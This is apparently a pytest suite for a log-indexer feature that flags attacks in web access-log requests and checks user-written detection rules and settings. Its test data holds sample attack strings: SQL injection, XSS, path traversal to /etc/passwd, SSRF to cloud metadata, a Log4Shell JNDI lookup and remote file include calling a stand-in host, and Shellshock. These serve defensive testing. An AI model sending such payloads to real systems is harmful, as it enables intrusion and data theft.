"""Attacks in access logs: `indexer enrich`, rules of users, the configuration that is refused."""

import json
import urllib.parse

import pytest

from support.programs import json_lines, run_cli


def look(*requests, **environment):
    """What is said of each request: a target, or a dict of a record's fields."""
    records = [each if isinstance(each, dict) else {"url": {"original": each}} for each in requests]
    lines = "".join(json.dumps(each) + "\n" for each in records)
    done = run_cli("indexer", "enrich", stdin=lines.encode(), timeout_s=60, **environment)
    assert done.returncode == 0, done.text
    return [each.get("security", {}) for each in json_lines(done.stdout)]


ATTACKS = {
    "sql_injection": "1' union select password from users-- ",
    "xss": '"><script>alert(1)</script>',
    "path_traversal": "../../../../x",
    "file_inclusion": "php://filter/convert.base64-encode/resource=index",
    "remote_file_inclusion": "http://203.0.113.9/shell.txt?",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
    "command_injection": "127.0.0.1; cat /tmp/x",
    "php_injection": "<?php system('x'); ?>",
    "java_injection": "${jndi:ldap://203.0.113.9/a}",
    "template_injection": "{{7*7}}",
    "node_injection": "require('child_process').exec('x')",
    "ldap_injection": "*)(uid=*))(|(uid=*",
    "response_splitting": "x\r\nSet-Cookie: a=b",
}

ENCODINGS = {
    "plain": lambda text: text.replace("\r", "%0d").replace("\n", "%0a"),
    "percent": lambda text: urllib.parse.quote(text, safe=""),
    "twice": lambda text: urllib.parse.quote(urllib.parse.quote(text, safe=""), safe=""),
    "plus": urllib.parse.quote_plus,
    "all bytes": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "%u": lambda text: "".join(f"%u{ord(each):04x}" for each in text),
    "upper case": lambda text: urllib.parse.quote(text.upper() if "://" not in text and "(" not in text else text),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_every_category_is_found_in_every_encoding(encoding):
    found = look(*(f"/page?id=5&value={ENCODINGS[encoding](text)}" for text in ATTACKS.values()))
    for category, said in zip(ATTACKS, found):
        assert said.get("threat") is True and category in said["categories"], (category, said)
        assert said["score"] >= 5 and said["rules"]


@pytest.mark.parametrize(
    "fields",
    [
        {"user_agent": {"original": "${jndi:ldap://203.0.113.9/a}"}},
        {"http": {"request": {"referrer": "https://example.org/?q=%3Cscript%3E"}}},
        {"user_agent": {"original": "sqlmap/1.7.2#stable"}},
        {"user_agent": {"original": "() { :;}; /bin/bash -c x"}},
        {"url": {"path": "/.git/config"}},
        {"url": {"path": "/x", "query": "f=../../etc/passwd"}},
    ],
    ids=json.dumps,
)
def test_every_part_of_a_request_is_looked_at(fields):
    assert look(fields)[0]["threat"] is True


BENIGN = [
    "/",
    "/select-a-plan",
    "/blog/drop-table-ideas",
    "/search?q=union+of+workers",
    "/search?q=students%27%20union%20or%20club",
    "/search?q=O%27Reilly+and+sons",
    "/search?q=rock+%27n%27+roll",
    "/search?q=how+to+select+from+a+list+where+to+insert+into+values",
    "/search?q=cats;+dogs;+find+out+more",
    "/search?q=what+is+the+cat+command",
    "/login?redirect=https%3A%2F%2Fsame.example%2Faccount",
    "/cb?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb&state=abc",
    "/odata/Items?$filter=Price%20gt%205%20and%20Name%20eq%20%27Milk%27&$top=10",
    '/api?data={"user":"x","tags":["a","b"],"n":1.5}',
    "/img?src=data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
    "/t?utm_source=news&utm_medium=email&gclid=Cj0KCQiA-abc_123&fbclid=IwAR0",
    "/u/123e4567-e89b-12d3-a456-426614174000?mail=a.b%2Bc%40example.org",
    "/wiki/C%2B%2B",
    "/caf%C3%A9?q=%E4%BD%A0%E5%A5%BD",
    "/etc/designs/site/clientlibs.css",
    "/windows/system-requirements",
    "/x.php?page=2&sort=-date&filter%5Bname%5D=x",
    "/calc?expr=2*(3%2B4)",
    "/a?time=12:30:00&range=[1,5]&color=%23ff0000",
]


def test_ordinary_requests_are_no_threat():
    agent = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
    records = [
        {
            "url": {"original": each},
            "user_agent": {"original": agent},
            "http": {"request": {"method": "GET", "referrer": "https://www.example.org/search?q=a+b"}},
        }
        for each in BENIGN
    ]
    for request, said in zip(BENIGN, look(*records)):
        assert said == {"threat": False}, (request, said)


def test_records_without_a_request_are_not_judged():
    assert look({"message": "' or 1=1 --"}, {"log": {"level": "error"}}) == [{}, {}]


@pytest.mark.parametrize("engine", ["auto", "table"])
def test_engines_say_the_same(engine):
    requests = [f"/?v={urllib.parse.quote(text)}" for text in ATTACKS.values()] + BENIGN
    assert look(*requests, ALPEX_THREATS_ENGINE=engine) == look(*requests)


@pytest.fixture
def rules(tmp_path):
    def write(text):
        path = tmp_path / "own.yaml"
        path.write_text(text)
        return {"ALPEX_THREATS_FILES": str(path)}

    return write


OWN = """
category: shop
rules:
  - id: coupon-guessing
    about: many coupons in one request
    score: 6
    in: [query]
    pattern: '(?:coupon{{value}}\\w+.*){3}'
    attacks: ["/?coupon=a&coupon=b&coupon=c"]
    benign: ["/?coupon=a"]
"""


def test_users_add_rules_switch_others_off_and_set_the_threshold(rules):
    own = rules(OWN)
    request = "/?coupon=a&coupon=b&coupon=c"
    assert look(request, **own)[0] == {
        "threat": True,
        "categories": ["shop"],
        "score": 6,
        "rules": ["coupon-guessing"],
    }
    assert look(request, ALPEX_THREATS_THRESHOLD="7", **own)[0]["threat"] is False
    assert look(request, ALPEX_THREATS_DISABLED_RULES="coupon-guessing", **own)[0] == {"threat": False}
    assert look(request, ALPEX_THREATS_ENABLED="false") == [{}]


@pytest.mark.parametrize(
    "text, problem",
    [
        (OWN.replace("(?:", "(?"), ":8: pattern: not a regular expression"),
        (OWN.replace("score: 6", "score: many"), ":6: score"),
        (OWN.replace("?coupon=a&coupon=b&coupon=c", "?x=1"), ":9: rule 'coupon-guessing' does not find this example"),
        (OWN.replace('benign: ["/?coupon=a"]', 'benign: ["/?coupon=a&coupon=b&coupon=c"]'), "finds this example"),
        ("category: x\n", "rules: expected a list"),
        ("{", "own.yaml:"),
    ],
    ids=range(6),
)
def test_wrong_rules_are_refused_with_file_and_line(rules, text, problem):
    done = run_cli("indexer", "check-config", timeout_s=60, **rules(text))
    assert done.returncode == 2
    assert "own.yaml" in done.text and problem in done.text, done.text


@pytest.mark.parametrize(
    "environment",
    [
        {"ALPEX_THREATS_FILES": "/nowhere/rules.yaml"},
        {"ALPEX_THREATS_DISABLED_RULES": "no-such-rule"},
        {"ALPEX_THREATS_ENGINE": "guesswork"},
        {"ALPEX_THREATS_THRESHOLD": "0"},
        {"ALPEX_THREATS_CACHE_ENTRIES": "99999999"},
    ],
    ids=str,
)
def test_wrong_settings_are_refused(environment):
    done = run_cli("indexer", "check-config", timeout_s=60, **environment)
    assert done.returncode == 2 and "threats." in done.text, done.text


def test_long_and_broken_requests_do_no_harm():
    requests = [
        "/?q=" + "%27" * 100_000,
        "/?" + "&".join(f"a{number}=b" for number in range(20_000)),
        "/" + "../" * 50_000 + "etc/passwd",
        "/?q=" + "%25" * 60_000 + "3Cscript",
        "/?q=" + "(" * 50_000 + "select" * 5_000,
        "/%" * 50_000,
        "/\x00\x01\x1e\x1f\x7f",
    ]
    found = look(*requests)
    assert len(found) == len(requests) and found[2]["threat"] is True
